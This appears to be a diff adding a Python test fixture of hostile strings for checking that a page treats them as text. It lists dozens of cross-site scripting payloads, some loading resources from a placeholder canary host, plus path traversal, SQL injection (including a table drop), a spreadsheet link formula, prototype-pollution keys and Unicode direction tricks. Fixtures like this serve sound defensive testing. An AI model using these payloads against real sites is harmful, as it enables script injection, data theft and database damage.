@@ -1,0 +1,83 @@
+"""Strings that would run, fetch or mislead if a page took them for anything but text; written for these tests.
+
+`CANARY` stands for the address of a server that nothing should ever ask, `HIT` for what a script that runs would do.
+"""
+
+HIT = "window.__hit=1"
+RUNS = (
+    "<script>HIT</script>",
+    "</script><script>HIT</script>",
+    "<ScRiPt src=//CANARY/a.js></sCrIpT>",
+    "<img src=x onerror=HIT>",
+    "<img src=//CANARY/b.png>",
+    '"><img src=x onerror="HIT">',
+    "'><svg/onload=HIT>",
+    "<svg><script>HIT</script></svg>",
+    "<svg><set attributeName=onload to=HIT></svg>",
+    "<svg><animate onbegin=HIT attributeName=x dur=1s></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=HIT></style></mglyph></table></mtext></math>",
+    "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
+    "<iframe src=javascript:HIT></iframe>",
+    "<object data=javascript:HIT></object>",
+    "<embed src=//CANARY/c.swf>",
+    "<link rel=stylesheet href=//CANARY/d.css>",
+    "<style>@import '//CANARY/e.css';</style>",
+    "<meta http-equiv=refresh content='0;url=http://CANARY/f'>",
+    "<base href=http://CANARY/>",
+    "<form action=http://CANARY/g><input autofocus onfocus=HIT></form>",
+    "<details open ontoggle=HIT>",
+    "<video><source onerror=HIT></video>",
+    "<audio src onerror=HIT>",
+    "<body onload=HIT>",
+    "<marquee onstart=HIT>",
+    "<a href=javascript:HIT autofocus onfocus=HIT>x</a>",
+    "<template><script>HIT</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=HIT>'></noscript>",
+    "<!--><img src=x onerror=HIT>-->",
+    "<![CDATA[><script>HIT</script>]]>",
+    "<x onclick=HIT tabindex=1 id=x style=display:block>click</x>",
+    "{{constructor.constructor('HIT')()}}",
+    "${HIT}",
+    "{@html '<img src=x onerror=HIT>'}",
+    "javascript:HIT",
+    "JaVaScRiPt:HIT",
+    " javascript:HIT",
+    "java\tscript:HIT",
+    "data:text/html,<script>HIT</script>",
+    "vbscript:HIT",
+    "//CANARY/h",
+    "\\\\CANARY\\i",
+    "https://CANARY/j?<script>HIT</script>",
+    "&lt;script&gt;HIT&lt;/script&gt;",
+    "&#60;img src=x onerror=HIT&#62;",
+    "%3Cscript%3EHIT%3C/script%3E",
+    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
+    "'-HIT-'",
+    '";HIT;//',
+    "`;HIT;`",
+    "../../../../etc/passwd",
+    "' OR 1=1 --",
+    "'; DROP TABLE claims; --",
+    '=HYPERLINK("http://CANARY/k")',
+    "__proto__",
+    "constructor",
+    "toString",
+    "%s%n%x %d",
+    "a" * 300,
+    "\U0001f1f8\U0001f1fe e\u0301\u0302\u0303\u0304 \u0152",
+)
+BIDI = (
+    "shelled \u202eHOMS\u202c today",
+    "\u2066Damascus\u2069 and \u2067\u0646\u0638\u0627\u0645\u2069",
+    "zero\u200bwidth\u200cjoin\u200der\u2060word",
+    "soft\u00adhyphen \ufeffmark",
+    "\u0627\u0644\u062c\u064a\u0634 \u0627\u0644\u0633\u0648\u0631\u064a \u200f(12)\u200f",
+    "\u05e6\u05d1\u05d0 abc \u202d123\u202c",
+    "bell\u0007 escape\u001b[31m red",
+    "line\u2028separator\u2029paragraph",
+)
+
+
+def armed(strings: tuple[str, ...], canary: str) -> list[str]:
+    """The strings with what they would do, and where they would lead."""
+    return [one.replace("HIT", HIT).replace("CANARY", canary) for one in strings]
